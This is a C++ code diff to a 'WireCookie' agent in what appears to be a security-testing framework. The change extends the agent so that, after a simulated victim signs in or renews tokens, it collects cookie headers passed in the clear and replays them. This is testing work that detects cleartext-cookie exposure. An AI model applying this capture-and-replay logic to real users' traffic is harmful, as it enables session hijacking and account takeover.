@@ -14,6 +14,17 @@ class WireCookie final : public Agent {
     void run(Target& target) override {
         if (target.line() == nullptr || !victim_signs_in(target)) return;
         target.wait(wait_option(target, Duration::zero()));
+        std::size_t seen = 0;
+        look(target, seen);
+        // What is renewed, or comes with a new password, is set elsewhere than at the sign-in.
+        for (std::string const& routine : split(target.option(option::kLater), ',')) {
+            (void)target.victim()->does(routine);
+            look(target, seen);
+        }
+    }
+
+    // seen: how many exchanges of the line he has looked at.
+    static void look(Target& target, std::size_t& seen) {
         std::string const app = target.surface().host;
         std::string const below = random_word(target, 6) + "." + app;
         // He answers himself: what reaches the app may use a token up.
@@ -29,20 +40,18 @@ class WireCookie final : public Agent {
             target.victim()->turns_away();
         }
         target.line()->leave();
-        use_what_passed(target);
+        use_what_passed(target, seen);
     }
 
-    static void use_what_passed(Target& target) {
+    static void use_what_passed(Target& target, std::size_t& seen) {
         std::vector<std::string> headers;
-        for (Passed const& passed : target.line()->passed())
-            if (passed.request)
-                if (auto const cookies = passed.request->headers.get("cookie"))
+        auto const& passed = target.line()->passed();
+        for (; seen < passed.size(); ++seen)
+            if (passed[seen].request)
+                if (auto const cookies = passed[seen].request->headers.get("cookie"))
                     headers.push_back(*cookies);
         target.note(std::to_string(headers.size()) + " requests with cookies passed in the clear.");
-        for (std::string const& header : headers) {
-            use(target, cookies_in(header));
-            use(target, refresh(target, cookies_in(header)));
-        }
+        use_cookie_headers(target, headers);
     }
 };
 
